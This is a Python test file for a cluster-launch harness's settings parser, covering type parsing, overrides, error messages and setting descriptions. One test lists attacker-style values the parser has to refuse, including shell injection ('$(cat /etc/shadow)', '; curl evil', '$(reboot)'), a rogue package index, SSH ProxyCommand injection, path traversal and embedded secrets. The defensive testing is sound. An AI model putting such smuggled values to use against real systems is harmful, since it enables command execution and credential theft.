"""Settings of clusters: read from texts, checked, told."""

import pytest

from harness.errors import HarnessError
from harness.launch.kinds import KINDS
from harness.launch.settings import AwsSettings, OnPremiseSettings, SlurmSettings, described, parse


def test_texts_become_values_of_their_types():
    settings = parse(
        AwsSettings, ["max_workers=8", "spot=false", "zones=us-west-2a, us-west-2b", "ami=ami-1"]
    )
    assert (settings.max_workers, settings.spot, settings.ami) == (8, False, "ami-1")
    assert settings.zones == ("us-west-2a", "us-west-2b")


def test_a_later_setting_overrides_an_earlier_one():
    assert parse(AwsSettings, ["disk=100", "disk=300"]).disk == 300


def test_everything_that_is_wrong_is_told_at_once_with_the_way_out():
    with pytest.raises(HarnessError) as caught:
        parse(SlurmSettings, ["partitoin=gpu", "nodes=none", "time=tomorrow"])
    lines = str(caught.value).splitlines()
    assert lines[0].startswith("environment is missing: virtual environment")
    assert "--set environment=..." in lines[0]
    assert "nodes: input should be a valid integer" in lines[1]
    assert "time: expected a time as Slurm writes it" in lines[2]
    assert lines[3] == "no such setting 'partitoin'; did you mean 'partition'?"


@pytest.mark.parametrize(
    "text",
    [
        "name=Team",
        "name=../../etc",
        "name=a b",
        "name=a\nb",
        "name=" + "a" * 41,
        "region=us; reboot",
        "region={{ 7 * 7 }}",
        "image=ray:2.60 --privileged",
        "image=$(reboot)",
        'image=x"\nkind: Pod',
        "cache=relative/folder",
        "cache=/tmp/`id`",
        "cache=/tmp/$HOME",
        "package=ablation-harness; curl evil",
        "package=--index-url=http://evil x",
        "token_file=$(cat /etc/shadow)",
        "shm=8G --privileged",
        "disk=-1",
        "disk=1e99",
        "max_workers=99999999999999999999999",
        "store=s3://key:secret@bucket/folder",
        "store=s3://bucket/folder?access_key=AAA&secret_key=BBB",
        "store=ftp//nothing",
        "ssh_user=root -o ProxyCommand=reboot",
        "name=" + "a" * 100_000,
    ],
)
def test_a_value_that_an_attacker_would_write_is_refused(text):
    with pytest.raises(HarnessError):
        parse(AwsSettings, [text])


@pytest.mark.parametrize("proxy", ["ssh -W %h:%p gateway", "nc %h 2222"])
def test_a_proxy_command_is_accepted(proxy):
    needed = ["head=h1", "workers=h2", "ssh_user=me"]
    assert parse(OnPremiseSettings, [*needed, f"ssh_proxy={proxy}"]).ssh_proxy == proxy


def test_a_text_without_an_equals_sign_is_refused():
    with pytest.raises(HarnessError, match="expected key=value, got 'spot'"):
        parse(AwsSettings, ["spot"])


@pytest.mark.parametrize("name", KINDS)
def test_every_setting_of_a_kind_is_told_with_its_meaning(name):
    for setting in described(KINDS[name].settings):
        assert setting.meaning
        assert len(setting.meaning) < 100
        assert setting.required or setting.default is not None or "None" not in str(setting.default or "")


def test_needed_settings_are_told_first():
    needed = [setting.name for setting in described(OnPremiseSettings) if setting.required]
    assert needed == ["head", "workers", "ssh_user"]
    assert [setting.name for setting in described(OnPremiseSettings)][:3] == needed
